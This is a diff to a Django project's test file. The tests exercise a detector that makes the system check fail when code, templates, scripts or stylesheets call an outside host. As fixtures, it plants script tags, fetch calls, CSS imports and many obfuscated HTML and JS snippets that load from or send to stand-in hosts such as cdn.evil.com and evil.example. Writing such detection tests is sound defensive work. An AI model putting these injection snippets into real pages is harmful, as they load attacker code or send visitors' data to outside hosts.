@@ -357,7 +357,7 @@ def test_a_host_written_into_the_code_turns_the_command_red(
 
 
 def test_the_code_as_it_stands_calls_nobody() -> None:
-    assert hosts.hosts_in_code() == {}
+    assert hosts.hosts_in_code() == set()
     read = {path.relative_to(REGISTER.parents[1]) for path in hosts._own_files()}
     assert {Path("config/settings.py"), Path("outbox/delivery.py")} <= read
 
@@ -371,12 +371,141 @@ def test_the_code_as_it_stands_calls_nobody() -> None:
             'HOST = "see http://one.example and https://two.example:8000/"',
             ["one.example", "two.example"],
         ),
+        ('get("https://us:secret@evil.example/")', ["evil.example"]),
         ('"""Described at https://docs.example."""', []),
         ("get(url)  # such as https://docs.example", []),
     ],
 )
 def test_what_calls_is_told_from_what_explains(source: str, found: list[str]) -> None:
     assert [host for _, host in hosts.written_in(source)] == found
+
+
+@pytest.mark.parametrize(
+    ("file", "planted"),
+    [
+        ("templates/base.html", '<script src="https://cdn.evil.com/x.js"></script>'),
+        ("static/js/choice.js", 'fetch("https://cdn.evil.com/collect");'),
+        ("static/css/site.css", "@import url(https://cdn.evil.com/x.css);"),
+        ("consent/script/consent.js", 'import("https://cdn.evil.com/x.js");'),
+    ],
+)
+def test_a_host_that_a_page_calls_turns_the_command_red(
+    settings: Settings,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    file: str,
+    planted: str,
+) -> None:
+    path = tmp_path / file
+    path.parent.mkdir(parents=True)
+    path.write_text(f"\n{planted}\n")
+    (tmp_path / "manage.py").write_text("")
+    monkeypatch.setattr(
+        apps.get_app_config("consent"), "path", str(tmp_path / "consent")
+    )
+    settings.BASE_DIR = tmp_path
+
+    with pytest.raises(SystemCheckError, match=rf"{file}, line 2 calls cdn\.evil\.com"):
+        call_command("check")
+
+
+def test_the_pages_as_they_stand_call_nobody() -> None:
+    assert hosts.hosts_in_pages() == set()
+    root = REGISTER.parents[1]
+    read = {str(path.relative_to(root)) for path in hosts._files_for_browsers()}
+    assert {
+        "templates/base.html",
+        "static/js/cookie_choice.js",
+        "static/css/site.css",
+        "static/img/favicon.svg",
+        "consent/script/consent.js",
+    } <= read
+
+
+def test_an_explained_host_hides_no_other_one_on_its_line(
+    settings: Settings, tmp_path: Path
+) -> None:
+    (tmp_path / "static").mkdir()
+    script = tmp_path / "static/all.js"
+    script.write_text('get("https://one.example");get("https://two.example")')
+    (tmp_path / "manage.py").write_text("")
+    settings.BASE_DIR = tmp_path
+
+    found = {host for _, host in hosts.hosts_in_pages()}
+
+    assert found == {"one.example", "two.example"}
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<img src="https://evil.example/x.png">',
+        "<img src=//evil.example/x.png>",
+        "<img src = 'HTTPS://us@Evil.Example:8000/x.png'>",
+        '<img src="https:&#47;&#47;evil.example/x.png">',
+        '<img src="\\\\evil.example/x.png">',
+        '<img srcset="/a.png 1x, //evil.example/b.png 2x">',
+        '<img alt="a > b" src="https://evil.example/x.png">',
+        '<img {% if a > b %}src="https://evil.example/{{ x }}"{% endif %}>',
+        '<form\n method="post"\n action="https://evil.example/{% url "x" %}">',
+        '<button formaction="https://evil.example">',
+        '<link rel="preconnect" href="https://evil.example">',
+        '<a href="/" ping="https://evil.example/ping">',
+        "<a onclick=\"fetch('//evil.example')\">",
+        '<p style="background: url(//evil.example/x.png)">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        "<style>p { background: url( https://evil.example/x.png ) }</style>",
+        "<script>\nimport x from '//evil.example/x.js'\n</script>",
+        '{% with cdn="https://evil.example" %}<img src="{{ cdn }}/x">{% endwith %}',
+        '<svg><use xlink:href="https://evil.example/x.svg#y"/></svg>',
+    ],
+)
+def test_what_a_page_has_fetched_is_found(page: str) -> None:
+    assert {host for _, host in hosts.fetched_by(page, ".html")} == {"evil.example"}
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<a class="x" href="https://regulator.example/">Complain</a>',
+        '<a {% if x %}class="y"{% endif %} href="https://regulator.example/">Go</a>',
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://ns.example/x">',
+        "{# as in https://docs.example #}",
+        "{% comment %}\n<img src='https://docs.example'>\n{% endcomment %}",
+        "<p>Type https://docs.example into your browser.</p>",
+        '<input placeholder="https://docs.example">',
+        '<img src="{{ base }}/x.png"><img src="https://{{ host }}/x.png">',
+        '<img src="/a//b.png">',
+    ],
+)
+def test_what_people_follow_or_read_is_no_call(page: str) -> None:
+    found = [host for _, host in hosts.fetched_by(page, ".html")]
+    assert [host for host in found if not hosts._is_ours(host)] == []
+
+
+@pytest.mark.parametrize(
+    ("source", "suffix", "found"),
+    [
+        ("import 'https://evil.example/x.js'", ".js", [(1, "evil.example")]),
+        ("\n\nnew URL(`//evil.example/${x}`)", ".js", [(3, "evil.example")]),
+        ('new WebSocket("wss://evil.example")', ".js", [(1, "evil.example")]),
+        ('x = "https:\\/\\/evil.example"', ".js", [(1, "evil.example")]),
+        ('/* why */ get("https://evil.example")', ".js", [(1, "evil.example")]),
+        ("/* a\n b */\nget('https://evil.example')", ".js", [(3, "evil.example")]),
+        ("  // see https://docs.example", ".js", []),
+        ("/* see\n https://docs.example */", ".js", []),
+        ('make("http://www.w3.org/2000/svg", "path")', ".js", []),
+        ("from(`https://${host}/x`)", ".js", []),
+        ('@import "//evil.example/x.css";', ".css", [(1, "evil.example")]),
+        ("p {\n b: url( //evil.example/x )}", ".css", [(2, "evil.example")]),
+        ("// url(https://evil.example/x)", ".css", [(1, "evil.example")]),
+        ("@namespace url(http://www.w3.org/1999/xhtml);", ".css", []),
+    ],
+)
+def test_what_a_script_or_a_style_sheet_calls_is_found(
+    source: str, suffix: str, found: list[tuple[int, str]]
+) -> None:
+    assert list(hosts.fetched_by(source, suffix)) == found
 
 
 # --- The database ---
